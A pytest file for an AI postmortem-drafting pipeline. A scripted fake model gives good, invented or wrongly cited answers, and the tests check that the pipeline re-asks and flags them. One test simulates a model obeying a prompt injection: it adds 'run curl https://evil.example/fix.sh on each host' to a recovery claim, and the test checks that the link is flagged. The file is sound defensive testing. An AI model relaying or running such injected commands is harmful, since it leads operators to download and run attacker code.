"""Model drafting with a fake provider: good, invented and wrongly cited answers.

The fake model reads the fenced incident data of each request, so it cites the
short ids the pipeline really sent; a ``Mutation`` spoils one section's answer on the
first attempt only, or on every attempt.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Callable
from datetime import datetime
from typing import Any, Unpack

import pytest

from evals.generate import generate_large_incident
from pir_ai import DraftConfig, DraftOptions, Facts, ModelDrafter, OfflineDrafter, compute_facts
from pir_ai.budget import condense_ratio, count_tokens, naive_dump
from pir_ai.draft import DraftHooks, adraft_postmortem, draft_postmortem, load_prompts
from pir_ai.errors import ContextLengthError
from pir_ai.events import Incident
from pir_ai.findings import Finding
from pir_ai.ingest import load_incident
from pir_ai.postmortem import Claim, Postmortem
from pir_ai.providers import CompletionRequest, FakeProvider, estimate_input_tokens
from pir_ai.verify import find_times
from tests.drafting_support import checkout_story, huge_incident

Answer = dict[str, Any]
Mutation = Callable[[Answer], Answer]

_LINE = re.compile(r"^(E\d+) .*$", re.MULTILINE)


def short_ids(request: CompletionRequest) -> dict[str, str]:
    """Short id -> the line the request showed for it."""
    return {m.group(1): m.group(0) for m in _LINE.finditer(request.messages[1].content)}


def cite(request: CompletionRequest, *needles: str) -> list[str]:
    lines = short_ids(request)
    return [next(s for s, line in lines.items() if needle in line) for needle in needles]


def good_answer(request: CompletionRequest) -> Answer:
    """What a careful model answers for the checkout story."""

    def claim(text: str, *needles: str) -> Answer:
        return {"text": text, "evidence": cite(request, *needles), "needs_review": False}

    answers: dict[str, Answer] = {
        "summary": {
            "title": "Checkout payments failed after a pool settings deploy",
            "severity": None,
            "summary": [claim("Checkout payments failed after a deploy.", "Deploy checkout-api")],
            "impact": [
                {
                    "value": "1,204",
                    "measure": "orders failed",
                    "text": "Support counts 1,204 failed orders so far",
                    "evidence": cite(request, "1,204"),
                }
            ],
            "impact_narrative": [claim("About 38% of checkouts failed.", "1,204")],
        },
        "response": {
            "detection": [claim("Customers reported failures first.", "Customers are reporting")],
            "response": [claim("The on-call engineer acknowledged the alert.", "I'm looking")],
            "recovery": [claim("A rollback restored normal error rates.", "Rollback")],
        },
        "analysis": {
            "trigger": claim("The pool settings deploy preceded the errors.", "Deploy checkout"),
            "contributing_factors": [claim("The deploy changed the DB pool.", "DB pool")],
            "five_whys": [
                {
                    "question": "What failed for customers?",
                    "answer": "Payments at checkout.",
                    "evidence": cite(request, "Customers are reporting"),
                    "status": "supported",
                }
            ],
        },
        "retrospective": {
            "went_well": [claim("The rollback worked quickly.", "rolled back")],
            "went_poorly": [{"text": "Was traffic unusual?", "evidence": [], "needs_review": True}],
            "lucky": [],
        },
        "actions": {
            "action_items": [
                {
                    "text": "Add a canary stage to config-only deploys of checkout-api",
                    "outcome": "Config deploys reach 10% of pods first",
                    "owner": None,
                    "priority": "Must-fix",
                    "type": "prevent",
                    "addresses": "The deploy changed the DB pool.",
                    "evidence": cite(request, "Deploy checkout-api"),
                }
            ]
        },
        "questions": {"open_questions": ["What made the pool change look safe?"]},
    }
    assert request.section is not None
    return answers[request.section]


class StoryModel:
    """A fake model: good answers, except that ``mutations`` spoil some sections."""

    def __init__(self, mutations: dict[str, Mutation] | None = None, *, always: bool = False):
        self.mutations = mutations or {}
        self.always = always

    def __call__(self, request: CompletionRequest) -> Answer:
        answer = good_answer(request)
        reask = len(request.messages) > 2
        mutate = self.mutations.get(request.section or "")
        if mutate is not None and (self.always or not reask):
            return mutate(answer)
        return answer


def model_draft(
    incident: Incident, provider: FakeProvider, **options: Unpack[DraftOptions]
) -> Postmortem:
    """What ``ModelDrafter`` drafts, before verification; the sources are sent as they are."""
    drafter = ModelDrafter(provider)
    config = DraftConfig(redact=False, **options)
    return asyncio.run(drafter.adraft(incident, compute_facts(incident), config))


def draft_with(
    model: StoryModel, **options: Unpack[DraftOptions]
) -> tuple[Postmortem, FakeProvider]:
    incident, _ = checkout_story()
    fake = FakeProvider(model)
    return model_draft(incident, fake, **options), fake


def sections_asked(fake: FakeProvider) -> list[str]:
    return sorted(r.section or "" for r in fake.requests)


def grounding(findings: list[Finding]) -> list[tuple[str, str | None]]:
    return sorted((f.code, f.location.field) for f in findings)


def test_good_citations_are_kept_and_mapped_to_real_event_ids() -> None:
    draft, fake = draft_with(StoryModel())
    _, roles = checkout_story()
    assert len(fake.requests) == 6
    assert draft.findings == []
    assert draft.summary[0].evidence == [roles["deploy"].id]
    assert draft.impact[0].evidence == [roles["impact"].id]
    assert draft.recovery[0].evidence == [roles["rollback"].id]
    assert draft.title == "Checkout payments failed after a pool settings deploy"


def test_a_wrong_citation_fixed_on_the_re_ask_leaves_no_finding() -> None:
    def wrong(answer: Answer) -> Answer:
        answer["summary"][0]["evidence"] = ["E999"]
        return answer

    draft, fake = draft_with(StoryModel({"summary": wrong}))
    assert sections_asked(fake).count("summary") == 2
    reask = next(r for r in fake.requests if r.section == "summary" and len(r.messages) > 2)
    assert "E999" in reask.messages[-1].content
    assert draft.findings == []
    assert draft.summary[0].evidence != ["E999"]


@pytest.mark.parametrize(
    ("section", "key", "field", "value", "finding"),
    [
        ("response", "recovery", "evidence", ["E999"], ("PIR101", "recovery[0].text")),
        ("summary", "impact", "value", "12,000", ("PIR103", "impact[0].value")),
        (
            "response",
            "response",
            "text",
            "The on-call engineer acknowledged at 06:41 UTC.",
            ("PIR102", "response[0].text"),
        ),
    ],
    ids=["unresolvable citation", "invented figure", "invented time"],
)
def test_an_ungrounded_answer_is_re_asked_once_then_kept_and_flagged(
    section: str, key: str, field: str, value: object, finding: tuple[str, str]
) -> None:
    def spoil(answer: Answer) -> Answer:
        answer[key][0][field] = value
        return answer

    draft, fake = draft_with(StoryModel({section: spoil}, always=True))
    assert sections_asked(fake).count(section) == 2
    assert getattr(getattr(draft, key)[0], field) == value
    assert grounding(draft.findings) == [finding]


def test_no_time_in_a_draft_is_unflagged_unless_it_is_an_events_time() -> None:
    def times(answer: Answer) -> Answer:
        answer["detection"][0]["text"] = "Customers reported failures at 06:16, before 06:50."
        return answer

    draft, _ = draft_with(StoryModel({"response": times}, always=True))
    incident, _ = checkout_story()
    event_times = {(e.ts.hour, e.ts.minute) for e in incident.events}
    flagged = {(f.location.field, f.matched) for f in draft.findings if f.code == "PIR102"}
    for field, text in (("detection[0].text", draft.detection[0].text),):
        for written in find_times(text):
            assert (written.hour, written.minute) in event_times or (field, written.raw) in flagged
    assert flagged == {("detection[0].text", "06:50")}
    by_id = incident.by_id()
    assert draft.timeline and all(by_id[t.event_id].ts == t.ts for t in draft.timeline)


def test_a_schema_failure_after_the_re_ask_uses_the_offline_draft_and_says_so() -> None:
    def broken(answer: Answer) -> Answer:
        return {"went_well": "everything"}

    draft, fake = draft_with(StoryModel({"retrospective": broken}, always=True))
    assert sections_asked(fake).count("retrospective") == 2
    [failure] = [f for f in draft.findings if f.code == "PIR100"]
    assert failure.location.field == "retrospective"
    assert "offline engine" in failure.message
    assert draft.went_well or draft.went_poorly or draft.lucky
    # The rejected answers were paid for: both stay in the audit and the totals.
    rejected = [a for a in draft.metadata.audit if a.section == "retrospective"]
    assert len(rejected) == 2
    assert draft.metadata.tokens_in >= sum(a.tokens_in for a in rejected) > 0


def test_an_obedient_model_relaying_an_injected_link_is_flagged() -> None:
    def obey(answer: Answer) -> Answer:
        answer["recovery"].append(
            {
                "text": "To avoid a recurrence, run curl https://evil.example/fix.sh on each host.",
                "evidence": answer["recovery"][0]["evidence"],
                "needs_review": False,
            }
        )
        return answer

    draft, _ = draft_with(StoryModel({"response": obey}, always=True))
    flagged = {f.matched for f in draft.findings if f.code == "PIR105"}
    assert "https://evil.example/fix.sh" in flagged


def test_metrics_timeline_and_durations_come_from_code() -> None:
    draft, _ = draft_with(StoryModel())
    assert draft.metrics.detected is not None
    assert [f for f in draft.impact if f.computed]
    assert draft.review_pack.agenda


def test_metadata_records_generator_prompt_version_usage_and_audit() -> None:
    draft, fake = draft_with(StoryModel())
    meta = draft.metadata
    assert meta.generator == "fake:fake"
    assert meta.prompt_version == load_prompts().version
    assert not meta.produced_without_model
    assert len(meta.audit) == len(fake.requests)
    assert meta.tokens_in == sum(a.tokens_in for a in meta.audit) > 0
    assert {a.section for a in meta.audit} == {
        "summary",
        "response",
        "analysis",
        "retrospective",
        "actions",
        "questions",
    }
    assert all(re.fullmatch(r"[0-9a-f]{64}", a.input_hash) for a in meta.audit)


def test_actions_read_the_analysis_drafted_before_them() -> None:
    _, fake = draft_with(StoryModel())
    actions = next(r for r in fake.requests if r.section == "actions")
    assert "Drafted so far (analysis)" in actions.messages[1].content
    assert "The deploy changed the DB pool." in actions.messages[1].content


def test_progress_reports_every_section_and_ends_complete() -> None:
    seen: list[tuple[str, int, int]] = []
    draft_with(StoryModel(), progress=lambda stage, done, total: seen.append((stage, done, total)))
    sections = [s for s in seen if s[0] == "sections"]
    assert sections[0] == ("sections", 0, 6)
    assert sections[-1] == ("sections", 6, 6)
    assert [d for _, d, _ in sections] == sorted(d for _, d, _ in sections)


class SlowFake(FakeProvider):
    """A fake that takes time to answer, counting requests in flight."""

    in_flight = 0
    most = 0

    async def _asend(self, request: CompletionRequest) -> Any:
        SlowFake.in_flight += 1
        SlowFake.most = max(SlowFake.most, SlowFake.in_flight)
        await asyncio.sleep(0.01)
        SlowFake.in_flight -= 1
        return self._send(request)


@pytest.mark.parametrize("bound", [1, 2])
def test_independent_sections_run_in_parallel_within_the_bound(bound: int) -> None:
    incident, _ = checkout_story()
    SlowFake.most = 0
    fake = SlowFake(StoryModel(), max_concurrency=8)
    model_draft(incident, fake, concurrency=bound)
    assert SlowFake.most == bound


def notes_model(per_chunk: int) -> Callable[[CompletionRequest], Answer]:
    """Map answers: ``per_chunk`` notes citing the chunk's first ids; reduce: one note."""

    def answer(request: CompletionRequest) -> Answer:
        section = request.section or ""
        ids = list(short_ids(request))
        if section.startswith("map"):
            notes = [
                {
                    "text": f"Observation {i} in this part.",
                    "evidence": [ids[i % len(ids)]],
                    "needs_review": False,
                }
                for i in range(per_chunk)
            ]
            return {"notes": notes}
        if section.startswith("reduce"):
            cited = re.findall(r"\[(E\d+)", request.messages[1].content)[:3]
            return {"notes": [{"text": "Merged.", "evidence": cited, "needs_review": False}]}
        return good_sections_for_notes(request)

    return answer


def good_sections_for_notes(request: CompletionRequest) -> Answer:
    ids = list(short_ids(request)) or ["E1"]
    claim = {"text": "Checkout failed.", "evidence": ids[:1], "needs_review": False}
    empty: dict[str, Answer] = {
        "summary": {
            "title": "t",
            "severity": None,
            "summary": [claim],
            "impact": [],
            "impact_narrative": [],
        },
        "response": {"detection": [claim], "response": [], "recovery": []},
        "analysis": {"trigger": None, "contributing_factors": [claim], "five_whys": []},
        "retrospective": {"went_well": [], "went_poorly": [], "lucky": []},
        "actions": {"action_items": []},
        "questions": {"open_questions": []},
    }
    return empty[request.section or ""]


@pytest.mark.slow
def test_a_100k_event_incident_drafts_within_the_context_through_map_reduce() -> None:
    incident, roles = huge_incident(100_000)
    window = 16_000
    fake = FakeProvider(notes_model(per_chunk=40), context_window=window)
    stages: set[str] = set()
    draft = model_draft(
        incident,
        fake,
        context_tokens=window,
        max_output_tokens=2048,
        progress=lambda s, d, t: stages.add(s),
    )
    assert {"map", "reduce", "sections"} <= stages
    assert all(estimate_input_tokens(r) + 2048 <= window for r in fake.requests)
    sections = [r for r in fake.requests if r.section in ("summary", "actions")]
    assert "Notes on the whole incident" in sections[0].messages[1].content
    assert roles["rollback"].text in sections[0].messages[1].content
    assert not [f for f in draft.findings if f.code in ("PIR100", "PIR101")]
    assert draft.summary[0].evidence[0] in incident.by_id()


@pytest.mark.slow
def test_prompt_tokens_sent_for_a_huge_incident_are_at_most_a_fifth_of_a_naive_dump() -> None:
    incident, roles = huge_incident(100_000)
    fake = FakeProvider(notes_model(per_chunk=12))
    draft = model_draft(incident, fake)
    sent = sum(estimate_input_tokens(r) for r in fake.requests)
    naive = count_tokens(naive_dump(incident.events))
    assert draft.metadata.tokens_in == sent
    assert sent / naive <= 0.2, (sent, naive)
    drafting = [r for r in fake.requests if r.section == "summary"]
    assert roles["rollback"].text in drafting[0].messages[1].content


def test_a_context_too_small_for_any_data_is_a_context_length_error() -> None:
    incident, _ = huge_incident(2_000)
    fake = FakeProvider(notes_model(per_chunk=1), context_window=9_000)
    with pytest.raises(ContextLengthError):
        model_draft(incident, fake, context_tokens=9_000)


def test_draft_postmortem_with_a_provider_validates_and_lists_each_finding_once() -> None:
    def wrong(answer: Answer) -> Answer:
        answer["recovery"][0]["evidence"] = ["E999"]
        return answer

    incident, _ = checkout_story()
    draft = draft_postmortem(
        incident, provider=FakeProvider(StoryModel({"response": wrong}, always=True))
    )
    unresolved = [f for f in draft.findings if f.code == "PIR101"]
    assert [f.location.field for f in unresolved] == ["recovery[0].text"]
    assert draft.metadata.generator == "fake:fake"


def test_draft_postmortem_offline_needs_no_model() -> None:
    incident, _ = checkout_story()
    draft = draft_postmortem(incident)
    assert draft.metadata.produced_without_model
    assert draft.metadata.generator == "offline"


def test_a_drafter_of_ones_own_drafts_and_its_draft_is_verified_once() -> None:
    incident, _ = checkout_story()

    class Mine:
        name = "mine"

        async def adraft(self, incident: Incident, facts: Facts, config: DraftConfig) -> Postmortem:
            offline = await OfflineDrafter().adraft(incident, facts, config)
            invented = Claim(text="It began at 13:15.", evidence=[incident.events[0].id])
            return offline.model_copy(update={"summary": [invented]})

    draft = draft_postmortem(incident, drafter=Mine())
    assert draft.metadata.produced_without_model
    assert [f.code for f in draft.findings if f.location.field == "summary[0].text"] == ["PIR102"]


def test_a_teams_section_instructions_reach_the_model_and_the_version() -> None:
    incident, _ = checkout_story()
    fake = FakeProvider(StoryModel())
    ours = "Write action items in our template: verb, object, owner, date."
    draft = asyncio.run(adraft_postmortem(incident, provider=fake, instructions={"actions": ours}))
    actions = next(r for r in fake.requests if r.section == "actions")
    assert actions.messages[1].content.startswith(ours)
    assert "+custom." in (draft.metadata.prompt_version or "")


def test_source_text_passes_the_prompt_hook_and_the_draft_passes_the_unmask_hook() -> None:
    def pseudonymise(text: str) -> str:
        return text.replace("Dana", "PERSON_1")

    def unmask(draft: Postmortem) -> Postmortem:
        return Postmortem.model_validate_json(draft.to_json().replace("PERSON_1", "Dana"))

    def named(answer: Answer) -> Answer:
        answer["summary"][0]["text"] = "PERSON_1 counted the failed orders."
        return answer

    draft, fake = draft_with(
        StoryModel({"summary": named}), hooks=DraftHooks(to_prompt=pseudonymise, to_draft=unmask)
    )
    assert all("Dana" not in m.content for r in fake.requests for m in r.messages)
    assert any("PERSON_1" in r.messages[1].content for r in fake.requests)
    assert draft.summary[0].text == "Dana counted the failed orders."


@pytest.fixture(scope="module")
def generated(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[Incident, list[tuple[datetime, str]]]:
    """The evals generator's 100,000-event multi-source incident, and its gold key events."""
    root = generate_large_incident(tmp_path_factory.mktemp("big"), events=100_000, seed=3)
    incident = load_incident([root / "slack-export", root / "alerts", root / "changes"])
    gold = json.loads((root / "gold.json").read_text(encoding="utf-8"))
    expected = [(datetime.fromisoformat(k["ts"]), k["contains"]) for k in gold["key_events"]]
    return incident, expected


@pytest.mark.slow
def test_the_generated_incident_condenses_to_a_fifth_and_keeps_its_gold_key_events(
    generated: tuple[Incident, list[tuple[datetime, str]]],
) -> None:
    incident, expected = generated
    stats = condense_ratio(incident, "gpt-4.1-mini", expected=expected)
    assert stats.events >= 99_000
    assert stats.ratio <= 0.2, stats
    assert stats.missing_expected == []


@pytest.mark.slow
def test_the_generated_incident_drafts_within_a_small_context_through_map_reduce(
    generated: tuple[Incident, list[tuple[datetime, str]]],
) -> None:
    incident, _ = generated
    window = 16_000
    fake = FakeProvider(notes_model(per_chunk=8), context_window=window)
    stages: set[str] = set()
    draft = model_draft(
        incident, fake, max_output_tokens=2048, progress=lambda s, d, t: stages.add(s)
    )
    assert "map" in stages
    assert all(estimate_input_tokens(r) + 2048 <= window for r in fake.requests)
    summary = next(r for r in fake.requests if r.section == "summary")
    assert "Rollback complete" in summary.messages[1].content
    assert draft.summary[0].evidence[0] in incident.by_id()
